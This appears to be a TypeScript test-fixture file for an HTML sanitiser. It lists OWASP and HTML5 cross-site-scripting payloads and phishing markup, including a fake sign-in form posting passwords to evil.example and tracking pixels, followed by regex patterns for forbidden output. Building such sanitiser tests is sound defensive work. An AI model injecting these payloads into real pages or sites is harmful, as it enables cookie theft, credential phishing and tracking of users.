/**
 * Hostile rich text, for the sanitiser's tests and the page's: examples from the OWASP XSS Filter Evasion
 * Cheat Sheet, vectors of the HTML5 Security Cheat Sheet (html5sec.org), and form and input phishing as a
 * tester sent it (a field that posts a password to another site, a tracking pixel).
 */
export const XSS_FILTER_EVASION = [
  '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<LINK REL="stylesheet" HREF="https://xss.rocks/xss.css">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<span style="color: re\\d; background-image: \\75 rl(https://t.example/p.gif)">x</span>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<a href="vbscript:msgbox(1)">vb</a>',
];

export const HTML5_SECURITY = [
  '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  '<input onfocus=write(1) autofocus>',
  '<select onfocus=javascript:alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<keygen onfocus=alert(1) autofocus>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math href="javascript:javascript:alert(1)">CLICKME</math>',
  '<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(2)">CLICKME</maction></math>',
  '<svg><a xlink:href="javascript:alert(1)"><rect width="1000" height="1000" fill="white"/></a></svg>',
  '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<div style="background:url(https://t.example/pixel.gif)">bg</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<frameset onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
];

export const PHISHING = [
  '<form action="https://evil.example/steal" method="post"><p>Your session expired. Sign in again:</p><input name="email"><input type="password" name="pw"><button>Sign in</button></form>',
  '<form action="https://evil.example/x"><input type="submit" value="Confirm"></form>',
  '<input type="hidden" name="csrf" value="x"><input type="password">',
  '<button formaction="https://evil.example" formmethod="post">Save</button>',
  '<img src="https://tracker.example/pixel.gif?u=admin" width="1" height="1">',
  '<img srcset="https://tracker.example/a.png 1x">',
  '<a href="https://evil.example" target="_blank">open</a>',
  '<p>Text <label>Password <input type="password"></label></p>',
  '<fieldset><legend>Login</legend><input></fieldset>',
  '<a href="/api/workspace/delete">relative</a>',
  '<a href="//evil.example/path">protocol-relative</a>',
  '<div data-bind="x" class="btn btn-primary" id="save">styled like our button</div>',
  '<p style="position:fixed; top:0; left:0; width:100%; height:100%; z-index:9999">overlay</p>',
];

export const ALL_HOSTILE = [...XSS_FILTER_EVASION, ...HTML5_SECURITY, ...PHISHING];

/** What must never come out: active elements, handlers, script URLs and anything fetched. */
export const FORBIDDEN_OUTPUT = [
  /<\s*(?:form|input|button|select|textarea|keygen|option|label|fieldset|script|style|link|meta|base|iframe|frame|frameset|object|embed|svg|math|video|audio|source|template|details|marquee|table|body|isindex)\b/i,
  /\son[a-z]+\s*=/i,
  /javascript:|vbscript:|data:text|data:image\/svg/i,
  /https?:\/\/(?:tracker|xss\.rocks|t\.example)/i,
  /url\(|expression\(|@import/i,
  /\s(?:action|formaction|srcset|srcdoc|background|dynsrc|class|id|data-[a-z-]+|target|xlink:href)\s*=/i,
  /position\s*:/i,
];
